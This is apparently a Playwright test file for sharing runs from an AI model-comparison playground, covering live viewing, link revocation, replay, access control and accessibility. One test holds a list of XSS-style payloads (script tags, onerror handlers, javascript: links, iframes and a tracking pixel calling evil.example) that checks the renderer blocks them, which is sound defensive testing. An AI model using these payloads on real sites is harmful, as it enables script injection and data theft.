import type { Browser, BrowserContext, Page } from "@playwright/test";
import { answer, fault } from "@/lib/server/models/testing/upstream-script";
import { expectFine } from "./expect-fine";
import { expect, test } from "./fixtures";
import { judgeModel } from "./lab/judge-model";
import { answerAround } from "./lab/lab";
import { labSetup } from "./lab/lab-setup";
import { RunView } from "./pages/run-view";

test.use({ site: "lab" });

/** Someone else, in a browser of their own; what they ask of the network is kept. */
async function anotherReader(browser: Browser, baseURL: string | undefined) {
  const context = await browser.newContext({ baseURL });
  const page = await context.newPage();
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  const foreign = () => asked.filter((url) => !url.startsWith(`${baseURL}/`) && !/^(data|blob):/.test(url));
  return { context, page, view: new RunView(page), foreign };
}

/** Makes a permalink from the open run, and gives its address. */
async function share(page: Page): Promise<string> {
  await page.getByRole("button", { name: "Share", exact: true }).click();
  await page.getByRole("button", { name: "Make a link" }).click();
  return page.getByRole("textbox", { name: "Link" }).inputValue();
}

async function expectNoCookies(context: BrowserContext): Promise<void> {
  expect(await context.cookies()).toEqual([]);
}

test("a run is watched live by another, until it is revoked: then its page is one that never was", async ({
  page,
  playground,
  run,
  lab,
  browser,
  baseURL,
}) => {
  const gate = lab.gate();
  lab.script("alder", answerAround(gate, "Alder begins", "and ends."));
  lab.script(
    "judge",
    judgeModel(() => ({ winner: "A" })),
  );
  await playground.open(labSetup({ pool: ["alder", "birch"] }));
  await playground.ask("Who watches?");
  await expect(run.text("A")).toContainText("Alder begins");
  const address = await share(page);
  const reader = await anotherReader(browser, baseURL);
  const response = await reader.page.goto(address);
  expect([
    response?.status(),
    await response?.headerValue("referrer-policy"),
    await response?.headerValue("x-robots-tag"),
  ]).toEqual([200, "no-referrer", "noindex, nofollow"]);
  await expect(reader.view.text("A")).toContainText("Alder begins");
  await expect(reader.page).toHaveTitle(/^Who watches\?/);
  for (const name of ["Judge now", /^Stop/, "Share", "Judge again", /again$/])
    await expect(reader.page.getByRole("button", { name })).toHaveCount(0);
  gate.open();
  await expect(reader.view.text("A")).toContainText("and ends.");
  await expect(reader.view.took).toBeVisible();
  await expect(reader.view.took).not.toContainText("Cost");
  await expect(reader.view.column("A").getByText("cost", { exact: true })).toHaveCount(0);

  await page.getByRole("switch", { name: "Show what it cost" }).click();
  await expect(page.getByRole("switch", { name: "Show what it cost" })).toBeChecked();
  await reader.page.reload();
  await expect(reader.view.took).toContainText("Cost");

  await page.getByRole("button", { name: "Revoke the link" }).click();
  await expect(page.getByText("Revoked: the old link leads nowhere now.")).toBeVisible();
  const gone = await reader.page.goto(address);
  const goneText = await reader.page.getByRole("main").innerText();
  const never = await reader.page.goto("/s/AAAAAAAAAAAAAAAAAAAAAA");
  expect([gone?.status(), never?.status()]).toEqual([404, 404]);
  expect(await reader.page.getByRole("main").innerText()).toBe(goneText);
  expect(goneText).toContain("There is nothing at this address for you.");
  await expectNoCookies(reader.context);
  expect(reader.foreign()).toEqual([]);
  await reader.context.close();
});

const HOSTILE = [
  "![pixel](https://evil.example/pixel.png?secret=1)",
  "<img src=https://evil.example/a.png onerror=\"document.title='owned'\">",
  "<script>document.title='owned'</script>",
  "<iframe src=https://evil.example></iframe><meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<style>body{background:url(https://evil.example/b.png)}</style><svg onload=\"document.title='owned'\">",
  "[js](javascript:document.title='owned') [data](data:text/html,<script>1</script>) [vb](vbscript:x)",
  "[relative](/settings) [protocol](//evil.example) [ok](https://example.org/page)",
  "![x](javascript:alert(1)) <a href=\"javascript:document.title='owned'\">a</a>",
  "$$\\href{javascript:document.title='owned'}{x} \\includegraphics{https://evil.example/c.png}$$",
  "```html\n<script>document.title='owned'</script>\n```",
].join("\n\n");

test("hostile markdown in a shared run runs nothing, loads nothing and leads nowhere by itself", async ({
  page,
  playground,
  run,
  lab,
  browser,
  baseURL,
}) => {
  lab.script("alder", answer(HOSTILE));
  lab.script(
    "judge",
    judgeModel(() => ({ winner: "A", fusionBeatsBest: true, answer: HOSTILE })),
  );
  await playground.open(labSetup({ pool: ["alder", "birch"] }));
  await playground.ask("<script>document.title='owned'</script> ![p](https://evil.example/p.png)");
  await expect(run.took).toBeVisible();
  const address = await share(page);
  const reader = await anotherReader(browser, baseURL);
  await reader.page.goto(address);
  await expect(reader.view.answer.locator(".md-block").first()).toBeVisible();
  await expect(reader.view.answer).toContainText("image: pixel");
  const { answer: shown } = reader.view;
  expect(await shown.locator("img, iframe, script, style, meta, svg[onload]").count()).toBe(0);
  const links = await reader.page
    .locator(".md a")
    .evaluateAll((all) =>
      all.map((a) => [a.getAttribute("href"), a.getAttribute("target"), a.getAttribute("rel")]),
    );
  expect(links.length).toBeGreaterThan(0);
  for (const [href, target, rel] of links) {
    expect(href).toMatch(/^https:\/\//);
    expect([target, rel]).toEqual(["_blank", "noopener noreferrer"]);
  }
  for (const name of ["js", "data", "vb", "relative", "protocol"])
    await shown.getByText(name, { exact: true }).first().click();
  await shown.getByRole("link", { name: "ok", exact: true }).click();
  const question = reader.page.getByRole("dialog", { name: "Leave this page?" });
  await expect(question).toContainText("https://example.org/page");
  await question.getByRole("button", { name: "Stay here" }).click();
  await expect(question).toHaveCount(0);
  await shown.getByRole("link", { name: "ok", exact: true }).click({ button: "middle" });
  await expect(question).toBeVisible();
  await reader.page.keyboard.press("Escape");
  await expect(question).toHaveCount(0);
  await expect(reader.page).not.toHaveTitle(/owned$/);
  expect([reader.page.url(), reader.context.pages().length, reader.foreign()]).toEqual([address, 1, []]);
  await reader.context.close();
});

test("a shared run is replayed, paused, skipped, and run by its reader with the same setup", async ({
  page,
  playground,
  run,
  lab,
  browser,
  baseURL,
}) => {
  const gate = lab.gate();
  lab.script("alder", answerAround(gate, "Alder begins", "and ends."));
  lab.script("birch", fault(401, { message: "Incorrect API key provided: sk-secret of org-hidden" }));
  await playground.open(labSetup({ pool: ["alder", "birch", "cedar"] }));
  await playground.ask("Say it again?");
  await expect(run.text("A")).toContainText("Alder begins");
  const address = await share(page);
  const reader = await anotherReader(browser, baseURL);
  await reader.page.goto(address);
  await expect(reader.view.text("A")).toContainText("Alder begins");
  // What a reader's page took to open lies between the two halves: time enough to pause the replay there.
  gate.open();
  await expect(reader.view.took).toBeVisible();
  await expect(reader.page.getByText(/sk-secret|org-hidden/)).toHaveCount(0);
  await reader.page.getByRole("button", { name: "Replay" }).click();
  const bar = reader.page.getByRole("region", { name: "Replay" });
  await bar.getByRole("button", { name: "Pause" }).click();
  await expect(reader.view.text("A")).not.toContainText("and ends.");
  await bar.getByRole("button", { name: "4×" }).click();
  await expect(bar.getByRole("button", { name: "4×" })).toHaveAttribute("aria-pressed", "true");
  await bar.getByRole("button", { name: "Skip to the end" }).click();
  await expect(bar.getByRole("button", { name: "Replay again" })).toBeVisible();
  await expect(reader.view.text("A")).toContainText("and ends.");
  await expect(reader.view.took).toBeVisible();
  await bar.getByRole("button", { name: "Close the replay" }).click();
  await expect(bar).toHaveCount(0);

  await reader.page.getByRole("button", { name: "Run it yourself" }).click();
  await expect(reader.page).toHaveURL(`${baseURL}/`);
  const theirs = reader.page.getByRole("textbox", { name: "Prompt", exact: true });
  await expect(theirs).toHaveValue("Say it again?");
  await expect(reader.page.getByRole("region", { name: "Setup" })).toContainText("cedar");
  await reader.context.close();
});

test("what its owner does afterwards stays theirs, and people on this instance means signed in", async ({
  page,
  playground,
  run,
  browser,
  baseURL,
}) => {
  await playground.open(labSetup({ pool: ["alder", "birch"] }));
  await playground.ask("Once?");
  await expect(run.took).toBeVisible();
  const address = await share(page);
  await page.keyboard.press("Escape");
  await run.judgeAgain({});
  await expect(run.fusions.getByRole("tab")).toHaveCount(2);
  const reader = await anotherReader(browser, baseURL);
  await reader.page.goto(address);
  await expect(reader.view.took).toBeVisible();
  await expect(reader.view.fusions).toHaveCount(0);
  const picture = await reader.context.request.get(`${address}/opengraph-image`);
  expect(picture.status()).toBe(200);
  await page.getByRole("button", { name: "Share", exact: true }).click();
  await page.getByRole("radio", { name: "People on this instance" }).click();
  await expect(page.getByRole("radio", { name: "People on this instance" })).toBeChecked();
  await expect.poll(async () => (await reader.context.request.get(address)).status()).toBe(404);
  await reader.page.goto(address);
  const back = encodeURIComponent(new URL(address, baseURL).pathname);
  await expect(reader.page.getByRole("link", { name: "Sign in" })).toHaveAttribute(
    "href",
    `/sign-in?next=${back}`,
  );
  await reader.context.close();
});

for (const colorScheme of ["light", "dark"] as const) {
  test(`axe finds nothing serious on a permalink and in the dialog, ${colorScheme}, and a phone shows it whole`, async ({
    page,
    playground,
    run,
    browser,
    baseURL,
  }) => {
    await page.emulateMedia({ colorScheme });
    await playground.open(labSetup({ pool: ["alder", "birch"] }));
    await playground.ask("Can everyone read it?");
    await expect(run.took).toBeVisible();
    const address = await share(page);
    await expectFine(page);
    const reader = await anotherReader(browser, baseURL);
    await reader.page.emulateMedia({ colorScheme });
    await reader.page.setViewportSize({ width: 390, height: 844 });
    await reader.page.goto(address);
    await expect(reader.view.took).toBeVisible();
    await expectFine(reader.page);
    await reader.context.close();
  });
}
